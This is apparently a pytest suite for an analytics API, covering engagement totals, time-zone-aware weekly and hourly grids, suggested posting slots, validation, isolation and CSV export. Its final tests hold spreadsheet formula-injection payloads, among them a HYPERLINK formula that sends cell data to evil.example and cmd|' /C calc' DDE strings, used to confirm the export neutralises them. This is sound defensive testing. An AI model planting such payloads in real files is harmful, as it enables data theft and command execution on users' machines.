"""GET /analytics and /analytics.csv on made data with a known answer:
totals, Monday weeks and the weekday x hour grid in the channel's zone
(across a daylight-saving change), the top posts, the suggested-slot rule,
ranges, isolation, and the CSV's guard against formula injection."""

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from harness.api import ANALYTICS, CHANNEL, POSTS
from tests.analytics_support import channel, figures, publish_at, send, snapshot
from tests.conftest import assert_error

BERLIN = ZoneInfo("Europe/Berlin")
# Ten weeks of 2026, Monday 7 September to Sunday 15 November: Berlin's
# clocks went back on Sunday 25 October, in the middle.
FIRST_MONDAY = datetime(2026, 9, 7, tzinfo=BERLIN)
RANGE = "from=2026-09-07&to=2026-11-15"
DAYS = ("mon", "tue", "wed", "thu", "fri", "sat", "sun")


def at(week, day, hour, minute=10):
    """Berlin wall time in week `week` (0-9) of the range, on `day` (mon..sun)."""
    date = FIRST_MONDAY.date() + timedelta(weeks=week, days=DAYS.index(day))
    return datetime(date.year, date.month, date.day, hour, minute, tzinfo=BERLIN)


def made(api, clock, cells, channel_id="acme"):
    """Published posts with known engagement: `cells` {(day, hour): [engagement,
    ...]}, one post per value in successive weeks, each with a snapshot of
    1,000 impressions taken two days after. Returns [(post, engagement)]."""
    plan = [
        (at(n % 10, day, hour), value)
        for (day, hour), values in cells.items()
        for n, value in enumerate(values)
    ]
    posts = publish_at(api, clock, [moment for moment, _ in plan], channel_id)
    send(
        api,
        [
            snapshot(post, timedelta(days=2), **figures(1000, round(value * 1000)))
            for post, (_, value) in zip(posts, plan, strict=True)
        ],
    )
    return list(zip(posts, [value for _, value in plan], strict=True))


def analytics(api, query=RANGE + "&channel=acme"):
    r = api.get(f"{ANALYTICS}?{query}")
    assert r.status_code == 200, r.get_json()
    return r.get_json()


def cell(answer, day, hour):
    return next(c for c in answer["grid"] if c["day"] == day and c["hour"] == hour)


BACKGROUND = [0.018, 0.022, 0.02, 0.025, 0.015, 0.021, 0.019, 0.02]
KNOWN = {
    ("tue", 9): [0.08, 0.085, 0.075, 0.09, 0.078, 0.082, 0.088, 0.072],  # the best hour
    ("mon", 14): BACKGROUND,
    ("wed", 11): BACKGROUND,
    ("thu", 16): BACKGROUND,
    ("fri", 8): [0.15, 0.16, 0.14],  # higher still, but three posts prove nothing
    ("sat", 10): [0.005, 0.14, 0.01, 0.14, 0.005],  # 30 % above the mean, by two lucky posts
}


@pytest.fixture
def known(api, clock):
    channel(api, "acme", "Europe/Berlin")
    return made(api, clock, KNOWN)


def test_the_best_hour_is_suggested_and_nothing_else(api, known):
    answer = analytics(api)
    values = [v for _, v in known]
    mean = sum(values) / len(values)
    assert answer["totals"]["mean_engagement"] == pytest.approx(mean)
    [slot] = answer["suggested_slots"]
    tuesday = KNOWN[("tue", 9)]
    assert (slot["day"], slot["time"], slot["posts"]) == ("tue", "09:00", 8)
    assert slot["engagement"] == pytest.approx(sum(tuesday) / 8)
    assert slot["lift"] == pytest.approx(sum(tuesday) / 8 / mean - 1)
    assert slot["in_slots"] is False
    # Friday 08:00 did better, from three posts; Saturday 10:00 is above the
    # mean by 10 % and more, from two lucky posts of five: neither is clear.
    friday, saturday = cell(answer, "fri", 8), cell(answer, "sat", 10)
    assert friday["engagement"] > slot["engagement"] and friday["measured"] == 3
    assert saturday["engagement"] > 1.1 * mean and saturday["measured"] == 5


def test_at_most_three_slots_the_most_certain_first(api, clock):
    """Four hours clearly above the rest: the three whose advantage is
    surest come first, and of two equal means the steadier one."""
    channel(api, "acme", "Europe/Berlin")
    cells = {
        ("mon", 9): [0.06, 0.061, 0.059, 0.06, 0.06, 0.06],  # steady
        ("tue", 9): [0.04, 0.08, 0.05, 0.07, 0.06, 0.06],  # the same mean, noisier: fourth
        ("wed", 9): [0.09, 0.091, 0.089, 0.09, 0.09],  # the highest
        ("thu", 9): [0.07, 0.071, 0.069, 0.07, 0.07],
        ("fri", 15): BACKGROUND,
        ("sat", 15): BACKGROUND,
        ("sat", 16): BACKGROUND,
        ("sun", 15): BACKGROUND,
    }
    made(api, clock, cells)
    found = analytics(api)["suggested_slots"]
    assert [(s["day"], s["time"], s["posts"]) for s in found] == [
        ("wed", "09:00", 5),
        ("thu", "09:00", 5),
        ("mon", "09:00", 6),
    ]
    assert [s["engagement"] for s in found] == pytest.approx([0.09, 0.07, 0.06])
    assert [s["lift"] for s in found] == pytest.approx([1.25, 0.75, 0.5])


def test_noise_suggests_nothing(api, clock):
    """Every hour drawn from the same spread: some come out 10 % above the
    mean, none clearly."""
    channel(api, "acme", "Europe/Berlin")
    seed, values = 12345, []
    for _ in range(48):
        seed = (seed * 1103515245 + 12345) % 2**31
        values.append(0.01 + 0.04 * seed / 2**31)
    cells = {(day, 9 + n): values[8 * n : 8 * n + 8] for n, day in enumerate(DAYS[:6])}
    made(api, clock, cells)
    answer = analytics(api)
    mean = answer["totals"]["mean_engagement"]
    assert max(c["engagement"] or 0 for c in answer["grid"]) > 1.1 * mean
    assert answer["suggested_slots"] == []


def test_a_slot_the_channel_has_already_is_marked(api, known):
    r = api.patch(CHANNEL + "acme", json={"slots": [{"day": "tue", "time": "09:00"}]})
    assert r.status_code == 200, r.get_json()
    assert analytics(api)["suggested_slots"][0]["in_slots"] is True


def test_the_grid_and_weeks_are_in_the_channels_zone_across_the_clock_change(api, known):
    answer = analytics(api)
    assert answer["timezone"] == "Europe/Berlin" and answer["channel"] == "acme"
    assert len(answer["grid"]) == 168
    assert [(c["day"], c["hour"]) for c in answer["grid"][:2]] == [("mon", 0), ("mon", 1)]
    tuesday = cell(answer, "tue", 9)  # 09:10 in summer time (07:10 UTC) and winter (08:10 UTC)
    assert (tuesday["posts"], tuesday["measured"]) == (8, 8)
    assert tuesday["engagement"] == pytest.approx(sum(KNOWN[("tue", 9)]) / 8)
    assert cell(answer, "tue", 8)["posts"] == cell(answer, "tue", 7)["posts"] == 0
    assert sum(c["posts"] for c in answer["grid"]) == len(known)
    assert cell(answer, "sun", 23)["engagement"] is None

    weeks = answer["weeks"]
    assert [w["week"] for w in weeks] == [
        (FIRST_MONDAY.date() + timedelta(weeks=n)).isoformat() for n in range(10)
    ]
    assert sum(w["posts"] for w in weeks) == len(known)
    first = weeks[0]  # Tue, Mon, Wed, Thu, Fri and Sat posts of the first week
    assert first["posts"] == 6 and first["impressions"] == 6000
    week_values = [0.08, 0.018, 0.018, 0.018, 0.15, 0.005]
    assert first["engagement"] == pytest.approx(sum(week_values) / 6)
    assert weeks[7]["posts"] == 4  # the four series of eight posts
    assert weeks[-1] == {
        "week": "2026-11-09",
        "posts": 0,
        "measured": 0,
        **dict.fromkeys(("impressions", "members_reached", "reactions", "comments"), None),
        **dict.fromkeys(("reshares", "clicks", "engagement"), None),
    }


def test_totals_count_every_published_post_and_rate_the_measured(api, clock):
    channel(api, "acme", "Europe/Berlin")
    posts = publish_at(api, clock, [at(0, "mon", 9), at(0, "tue", 9), at(1, "wed", 9)], "acme")
    publish_at(api, clock, [at(1, "thu", 12)])  # personal: not acme's
    api.post(POSTS, json={"type": "brand", "brand_id": "acme", "content": "a draft: not counted"})
    send(
        api,
        [
            snapshot(posts[0], **figures(1000, 50)),  # 5 %
            snapshot(posts[1], **figures(3000, 60)),  # 2 %
            snapshot(posts[1], timedelta(hours=2), **figures(100, 90)),  # older: not counted
        ],
    )  # the third has no stats yet
    totals = analytics(api)["totals"]
    assert (totals["posts"], totals["measured"]) == (3, 2)
    assert totals["impressions"] == 4000 and totals["members_reached"] == 3000
    assert totals["reactions"] == 25 + 30 and totals["clicks"] == 7 + 8
    assert totals["engagement"] == pytest.approx(110 / 4000)  # a rate: 2.75 %
    assert totals["mean_engagement"] == pytest.approx((0.05 + 0.02) / 2)  # a mean: 3.5 %
    everything = analytics(api, RANGE)
    assert everything["channel"] is None and everything["totals"]["posts"] == 4
    assert everything["suggested_slots"] == []


def test_the_top_posts_are_the_ten_most_engaging(api, clock):
    posts = publish_at(api, clock, [at(n % 10, DAYS[n % 7], 10 + n % 5) for n in range(12)])
    rates = [0.01 * (n + 1) for n in range(12)]
    send(
        api,
        [
            snapshot(post, **figures(1000 + n, round(rate * (1000 + n))))
            for n, (post, rate) in enumerate(zip(posts, rates, strict=True))
        ],
    )
    top = analytics(api, RANGE)["top"]
    assert len(top) == 10
    order = sorted(range(12), key=lambda n: (-round(rates[n] * (1000 + n)) / (1000 + n), -n))
    assert [t["post_id"] for t in top] == [posts[n]["id"] for n in order[:10]]
    best = top[0]
    assert best["content"] == posts[11]["content"] and best["channel"] == "personal"
    assert best["live_url"] == posts[11]["live_url"]
    assert best["published_at"] == posts[11]["published_at"]
    assert best["impressions"] == 1011 and best["taken_at"].endswith("Z")
    assert all(a["engagement"] >= b["engagement"] for a, b in zip(top, top[1:], strict=False))


def test_monday_starts_a_week_at_local_midnight(api, clock):
    """Sunday 23:30 and Monday 00:30 in Auckland are 10:30 and 11:30 UTC on
    Sunday: different weeks and days there, the same day in UTC."""
    auckland = ZoneInfo("Pacific/Auckland")
    channel(api, "kiwi", "Pacific/Auckland")
    sunday = datetime(2026, 11, 8, 23, 30, tzinfo=auckland)
    posts = publish_at(api, clock, [sunday, sunday + timedelta(hours=1)], "kiwi")
    send(api, [snapshot(p, **figures(100, 5)) for p in posts])
    answer = analytics(api, "from=2026-11-02&to=2026-11-15&channel=kiwi")
    assert answer["timezone"] == "Pacific/Auckland"
    assert [(w["week"], w["posts"]) for w in answer["weeks"]] == [
        ("2026-11-02", 1),
        ("2026-11-09", 1),
    ]
    assert cell(answer, "sun", 23)["posts"] == cell(answer, "mon", 0)["posts"] == 1
    # The same posts in UTC (a channel that is not set up): both on Sunday.
    publish_at(api, clock, [sunday + timedelta(days=7)], "elsewhere")
    utc = analytics(api, "from=2026-11-02&to=2026-11-22&channel=elsewhere")
    assert utc["timezone"] == "UTC" and cell(utc, "sun", 10)["posts"] == 1


def test_the_zone_of_all_channels_together(api, clock):
    assert analytics(api, RANGE)["timezone"] == "UTC"  # none set up
    channel(api, "acme", "Europe/Berlin")
    channel(api, "personal", "Europe/Berlin")
    assert analytics(api, RANGE)["timezone"] == "Europe/Berlin"  # the one they share
    channel(api, "kiwi", "Pacific/Auckland")
    assert analytics(api, RANGE)["timezone"] == "UTC"  # they differ
    assert analytics(api, RANGE + "&channel=kiwi")["timezone"] == "Pacific/Auckland"


def test_ranges_by_date_and_time_and_the_defaults(api, clock, known):
    whole = analytics(api)
    assert whole["from"] == "2026-09-06T22:00:00.000000Z"  # midnight in Berlin, summer time
    assert whole["to"] == "2026-11-15T23:00:00.000000Z"  # the end of the 15th, winter time
    # A time is taken as it is: from the second week's Monday 09:00 UTC.
    part = analytics(api, "from=2026-09-14T09:00:00Z&to=2026-09-21T00:00:00%2B02:00&channel=acme")
    assert part["totals"]["posts"] == 6  # the second week's, its Monday 14:10 (12:10 UTC) too
    assert [w["week"] for w in part["weeks"]] == ["2026-09-14"]
    default = analytics(api, "channel=acme")  # the 90 days up to now
    span = datetime.fromisoformat(default["to"]) - datetime.fromisoformat(default["from"])
    assert span == timedelta(days=90)
    assert abs(datetime.fromisoformat(default["to"]) - datetime.now().astimezone()) < timedelta(
        minutes=5
    )


BAD_QUERIES = [
    ("from=2026-02-30", "from"),
    ("from=yesterday", "from"),
    ("to=2026-11-15T10:00:00", "to"),  # no offset
    ("from=2026-11-15&to=2026-11-01", "to"),
    ("from=2026-11-15&to=2026-11-15T00:00:00Z", "to"),  # empty
    ("from=2025-01-01&to=2026-02-06", "to"),  # over 400 days
    ("from=1969-12-31", "from"),
    ("to=9999-12-31", "to"),
    ("channel=", "channel"),
    ("channel=" + "x" * 101, "channel"),
    ("chanel=acme", "chanel"),
    ("from=2026-01-01&from=2026-02-01", "from"),
]


@pytest.mark.backend_independent
@pytest.mark.parametrize("query, field", BAD_QUERIES)
@pytest.mark.parametrize("path", [ANALYTICS, ANALYTICS + ".csv"])
def test_bad_queries_are_named(api, query, field, path):
    error = assert_error(api.get(f"{path}?{query}"), 400, "validation_error")
    assert field in error["details"], error


def test_one_users_analytics_never_hold_anothers(api, clock, caller):
    channel(api, "acme", "Europe/Berlin")
    made(api, clock, {("tue", 9): [0.05] * 6})
    bob = caller("bob")
    channel(bob, "acme", "Europe/Berlin")  # the same channel id, his own
    answer = analytics(bob)
    assert answer["totals"]["posts"] == 0 and answer["top"] == []
    assert all(c["posts"] == 0 for c in answer["grid"]) and answer["suggested_slots"] == []
    assert analytics(bob, RANGE)["totals"]["posts"] == 0
    assert analytics(api)["totals"]["posts"] == 6


def test_analytics_need_posts_read(caller):
    writer = caller("alice", scopes=["posts:write", "posts:publish"])
    for path in (ANALYTICS, ANALYTICS + ".csv"):
        error = assert_error(writer.get(path), 403, "insufficient_scope")
        assert error["details"] == {"required_scope": "posts:read"}


# --- the CSV -------------------------------------------------------------------------


def sheet(api, query=RANGE):
    r = api.get(f"{ANALYTICS}.csv?{query}")
    assert r.status_code == 200, r.get_data(as_text=True)
    assert r.mimetype == "text/csv"
    text = r.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return r, list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_the_csv_has_the_same_rows(api, known):
    r, rows = sheet(api, RANGE + "&channel=acme")
    assert r.headers["Content-Disposition"] == (
        'attachment; filename="analytics-acme-2026-09-07-2026-11-15.csv"'
    )
    answer = analytics(api)
    sections = [row["section"] for row in rows]
    assert sections == (
        ["totals"] + ["week"] * 10 + ["top"] * 10 + ["grid"] * 168 + ["suggested_slot"]
    )
    totals = rows[0]
    assert int(totals["posts"]) == answer["totals"]["posts"]
    assert float(totals["mean_engagement"]) == pytest.approx(answer["totals"]["mean_engagement"])
    assert (totals["from"], totals["timezone"]) == (answer["from"], "Europe/Berlin")
    assert [row["week"] for row in rows[1:11]] == [w["week"] for w in answer["weeks"]]
    assert [row["post_id"] for row in rows[11:21]] == [t["post_id"] for t in answer["top"]]
    tuesday = next(
        row
        for row in rows
        if row["section"] == "grid" and row["day"] == "tue" and row["time"] == "09:00"
    )
    assert (tuesday["posts"], tuesday["measured"]) == ("8", "8")
    slot = rows[-1]
    assert (slot["day"], slot["time"], slot["measured"]) == ("tue", "09:00", "8")
    assert float(slot["lift"]) == pytest.approx(answer["suggested_slots"][0]["lift"])


DANGEROUS = {  # a post's text: the cell the CSV holds
    '=HYPERLINK("https://evil.example/?"&A1, "Click")': (
        '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
    ),
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t'=1+1",  # split on tabs, the second field is text too
    "\r=1+1": "'\r'=1+1",
    "Results;=2+3;": "Results;'=2+3;",  # split on ;
    "a, @b\nand\n-c": "a, '@b\nand\n'-c",
}  # with the two plain texts below, the top ten


def test_cells_that_would_run_as_formulas_are_neutralised(api, clock):
    texts = [*DANGEROUS, "Plain text, with a comma", "a = b is fine inside"]
    posts = publish_at(
        api,
        clock,
        [at(0, "mon", 8 + n) for n in range(len(texts))],
        "-acme",
        content=lambda n, _: texts[n],
    )
    send(api, [snapshot(p, **figures(1000, 10 + n)) for n, p in enumerate(posts)])
    _, rows = sheet(api, RANGE + "&channel=-acme")
    cells = {row["post_id"]: row for row in rows if row["section"] == "top"}
    for post, text in zip(posts, texts, strict=True):
        found = cells[post["id"]]["content"]
        assert found == DANGEROUS.get(text, text), (text, found)
    assert {row["channel"] for row in rows if row["section"] != "top"} == {"'-acme"}
    assert all(row["channel"] == "'-acme" for row in rows if row["section"] == "top")
    # Nothing else in the file starts a formula.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


SEPARATED = ["Results;=2+3;", "tab\t-1\tseparated", 'a "quoted" word', "two\nlines", "a;b", "a,b"]


def test_a_spreadsheet_splitting_on_any_separator_reads_no_formula(api, clock):
    """A cell with a separator, a quote or a line break is always quoted,
    and read with `;`, tabs or commas as the separator, quotes honoured or
    not, no field of the file starts a formula."""
    posts = publish_at(
        api,
        clock,
        [at(0, "mon", 8 + n) for n in range(len(SEPARATED))],
        "acme",
        content=lambda n, _: SEPARATED[n],
    )
    send(api, [snapshot(p, **figures(1000, 10 + n)) for n, p in enumerate(posts)])
    r, rows = sheet(api, RANGE + "&channel=acme")
    text = r.get_data(as_text=True)[1:]
    contents = {row["post_id"]: row["content"] for row in rows if row["section"] == "top"}
    assert contents[posts[0]["id"]] == "Results;'=2+3;"
    assert contents[posts[1]["id"]] == "tab\t'-1\tseparated"
    assert [contents[p["id"]] for p in posts[2:]] == SEPARATED[2:]
    for post in posts:
        assert f'"{post["id"]}"' not in text  # an id holds no separator: not quoted
    for cell in SEPARATED[2:]:
        assert '"' + cell.replace('"', '""') + '"' in text  # quoted, whatever its separator
    for separator in (";", "\t", ","):
        for reader in (csv.reader(io.StringIO(text, newline=""), delimiter=separator), None):
            fields = (
                [f for line in reader for f in line]
                if reader
                else [f for line in text.splitlines() for f in line.split(separator)]
            )
            starts = [f for f in fields if f.lstrip(' "').startswith(("=", "+", "-", "@"))]
            assert not starts, (separator, starts[:3])


def test_the_csv_file_name_is_ascii_whatever_the_channel(api):
    r = api.get(
        f"{ANALYTICS}.csv?channel=%F0%9F%98%8D%C4%81-caf%C3%A9&from=2026-09-07&to=2026-11-15"
    )
    assert r.status_code == 200, r.get_data(as_text=True)
    disposition = r.headers["Content-Disposition"]
    assert disposition == 'attachment; filename="analytics-__-caf_-2026-09-07-2026-11-15.csv"'
